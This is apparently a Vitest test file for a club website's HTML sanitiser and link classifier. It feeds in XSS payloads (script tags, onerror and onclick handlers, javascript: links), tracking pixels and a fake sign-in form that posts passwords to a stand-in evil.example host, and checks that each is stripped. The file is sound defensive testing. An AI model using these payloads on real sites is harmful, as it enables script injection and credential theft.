// @vitest-environment jsdom
// DOMPurify sanitises in the window's DOM.
import { describe, expect, it } from 'vitest';
import { classifyLink, safeExternalUrl } from './safe-url';
import { legacyTextToHtml, sanitizeRichText, sanitizeStoredHtml } from './sanitize-html';

/** What the editor makes, every kind of node and mark in it (see rich-text/extensions.ts). */
const EDITOR_HTML =
  '<h2>Winter league</h2><p>Six <strong>rounds</strong>, <em>all</em> waters.<br>Draw at 8:00.</p>' +
  '<h3>Entry</h3><ul><li><p>£5 a round</p></li><li><p>Pools <strong><em>optional</em></strong></p>' +
  '<ol><li><p>nested</p></li></ol></li></ul><ol start="3"><li><p>third</p></li></ol>' +
  '<p>See <a href="/contact-us">Contact Us</a>, <a href="https://example.org/a?b=1">the league</a>, ' +
  '<a href="mailto:sec@pac.example">mail</a> or <a href="tel:+441234567890">call</a>.</p><p></p>';

describe('sanitizeRichText (on save)', () => {
  it("keeps the editor's own output exactly", () => {
    expect(sanitizeRichText(EDITOR_HTML)).toBe(EDITOR_HTML);
  });

  it('drops a fake sign-in form with its password input, keeping its words', () => {
    const html = sanitizeRichText(
      '<p>Session expired</p><form action="https://evil.example/steal" method="post">' +
        'Sign in again <input name="email"><input type="password" name="password">' +
        '<button type="submit">Sign in</button></form>',
    );
    expect(html).not.toMatch(/<form|<input|<button|action=|password/i);
    expect(html).toContain('Sign in again');
  });

  it('drops page-wide <style>, style and class attributes', () => {
    const html = sanitizeRichText(
      '<style>body { display: none }</style><p class="x" style="color:red" id="y">Text</p>',
    );
    expect(html).toBe('<p>Text</p>');
  });

  it('drops images, tracking pixels and their onerror handlers', () => {
    expect(
      sanitizeRichText(
        '<p>Hi<img src="https://tracker.example/pixel.gif?who=admin" width="1" height="1">' +
          '<img src="x" onerror="alert(1)"></p>',
      ),
    ).toBe('<p>Hi</p>');
  });

  it('removes scripts, frames, event handlers and javascript: or data: links', () => {
    const html = sanitizeRichText(
      '<script>alert(1)</script><iframe src="https://evil.example"></iframe>' +
        '<p onclick="alert(2)"><a href="javascript:alert(3)">x</a><a href=" JaVaScRiPt:alert(4)">y</a>' +
        '<a href="data:text/html,hi">z</a></p>',
    );
    expect(html).toBe('<p><a>x</a><a>y</a><a>z</a></p>');
  });

  it('treats /\\host, \\\\host and //host as links elsewhere, with the address they open', () => {
    expect(sanitizeRichText('<a href="/\\evil.example/login">x</a>')).toBe(
      '<a href="https://evil.example/login">x</a>',
    );
    expect(sanitizeRichText('<a href="\\\\evil.example">x</a>')).toBe(
      '<a href="https://evil.example/">x</a>',
    );
    expect(sanitizeRichText('<a href="//evil.example">x</a>')).toBe(
      '<a href="https://evil.example/">x</a>',
    );
  });

  it('stores links with their address only, and reads older tags as the editor would', () => {
    expect(
      sanitizeRichText('<h1>T</h1><p><b>B</b> <i>I</i> <a href="/rules" target="_blank">r</a></p>'),
    ).toBe('<h2>T</h2><p><strong>B</strong> <em>I</em> <a href="/rules">r</a></p>');
  });
});

describe('sanitizeStoredHtml (on display)', () => {
  it('keeps the editor output, opening links out of the site in a new tab', () => {
    const html = sanitizeStoredHtml(EDITOR_HTML);
    expect(html).toContain('<a href="/contact-us">Contact Us</a>');
    expect(html).toContain(
      '<a href="https://example.org/a?b=1" target="_blank" rel="noopener noreferrer">the league</a>',
    );
    expect(html.replace(/ target="_blank" rel="noopener noreferrer"/g, '')).toBe(EDITOR_HTML);
  });

  it('a link written /\\host is external: new tab, real address', () => {
    expect(sanitizeStoredHtml('<p><a href="/\\evil.example">x</a></p>')).toBe(
      '<p><a href="https://evil.example/" target="_blank" rel="noopener noreferrer">x</a></p>',
    );
  });

  it('shows the fake form, style and tracking image as nothing but their words', () => {
    const html = sanitizeStoredHtml(
      '<style>*{}</style><form action="https://evil.example"><input type="password"></form>' +
        '<img src="https://tracker.example/p.gif"><p>Words</p>',
    );
    expect(html).toBe('<p>Words</p>');
  });

  it('reads the old literal \\n format as lines', () => {
    expect(sanitizeStoredHtml('one\\ntwo')).toBe('<p>one<br>two</p>');
  });

  it('shows text whose headings are all h3 with them as h2, so no level is skipped', () => {
    expect(sanitizeStoredHtml('<h3 id="a">News</h3><p>x</p><h3>More</h3>')).toBe(
      '<h2>News</h2><p>x</p><h2>More</h2>',
    );
    expect(sanitizeStoredHtml('<h2>Top</h2><h3>Under</h3>')).toBe('<h2>Top</h2><h3>Under</h3>');
    expect(sanitizeRichText('<h3>Stored as typed</h3>')).toBe('<h3>Stored as typed</h3>');
  });
});

describe('legacyTextToHtml', () => {
  it('drops \\n next to block tags, where it only laid out the source', () => {
    expect(legacyTextToHtml('<p>a</p>\\n<p>b</p>')).toBe('<p>a</p><p>b</p>');
    expect(legacyTextToHtml('<ol>\\n<li>a</li>\\n <li>b</li>\\n</ol>')).toBe(
      '<ol><li>a</li><li>b</li></ol>',
    );
    expect(legacyTextToHtml('<h3>News</h3>\\n<p>x</p>')).toBe('<h3>News</h3><p>x</p>');
  });

  it('keeps a \\n inside a paragraph or list item as a line break', () => {
    expect(legacyTextToHtml('<p>a\\nb</p>')).toBe('<p>a<br>b</p>');
    expect(legacyTextToHtml('<ul><li>a\\nb</li></ul>')).toBe('<ul><li>a<br>b</li></ul>');
  });

  it('makes paragraphs of plain text at blank lines, line breaks at single ones', () => {
    expect(legacyTextToHtml('Dear members,\\n\\nThe draw is at 8.\\nBring a mat.')).toBe(
      '<p>Dear members,</p><p>The draw is at 8.<br>Bring a mat.</p>',
    );
    expect(legacyTextToHtml('One\n\nTwo <strong>bold</strong>')).toBe(
      '<p>One</p><p>Two <strong>bold</strong></p>',
    );
    expect(legacyTextToHtml('')).toBe('');
  });
});

describe('classifyLink', () => {
  it('tells the club pages from other places, and refuses other schemes', () => {
    expect(classifyLink('/contact-us')).toEqual({ kind: 'internal', href: '/contact-us' });
    expect(classifyLink('https://example.org')).toEqual({
      kind: 'external',
      href: 'https://example.org',
    });
    expect(classifyLink('/\\evil.example')?.kind).toBe('external');
    expect(classifyLink('javascript:alert(1)')).toBeUndefined();
    expect(classifyLink('vbscript:x')).toBeUndefined();
    expect(classifyLink('rules')).toBeUndefined();
  });
});

describe('safeExternalUrl', () => {
  it('accepts http and https only', () => {
    expect(safeExternalUrl('https://facebook.com/pac')).toBe('https://facebook.com/pac');
    expect(safeExternalUrl('http://x.com/pac')).toBe('http://x.com/pac');
    expect(safeExternalUrl('javascript:alert(1)')).toBeUndefined();
    expect(safeExternalUrl('data:text/html,hi')).toBeUndefined();
    expect(safeExternalUrl('not a url')).toBeUndefined();
  });
});
